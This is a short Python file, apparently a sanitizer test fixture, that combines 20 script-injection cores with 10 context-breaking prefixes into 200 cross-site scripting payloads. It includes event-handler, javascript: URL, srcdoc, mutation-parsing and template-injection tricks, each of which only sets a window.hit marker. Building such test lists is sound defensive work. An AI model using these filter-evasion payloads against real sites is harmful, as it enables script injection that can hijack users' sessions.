"""Two hundred ways to smuggle a script into a page; each would set `window.hit` if it ran."""

RUN = "window.hit=1"
CORES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<video><source onerror={RUN}></video>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={RUN}>'>",
    f"<a href='javascript:{RUN}' id=go>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<template><script>{RUN}</script></template>{{{{constructor.constructor('{RUN}')()}}}}",
)
BREAKS = (  # what may end the place that the text stands in
    "",
    '">',
    "'>",
    "--></style></script></title></textarea></noscript>",
    "]]>",
    f'" autofocus onfocus="{RUN}" x="',
    '\\";</script>',
    "</text></svg>",
    "\x00",
    "&quot;&gt;",
)
PAYLOADS = tuple(before + core for before in BREAKS for core in CORES)
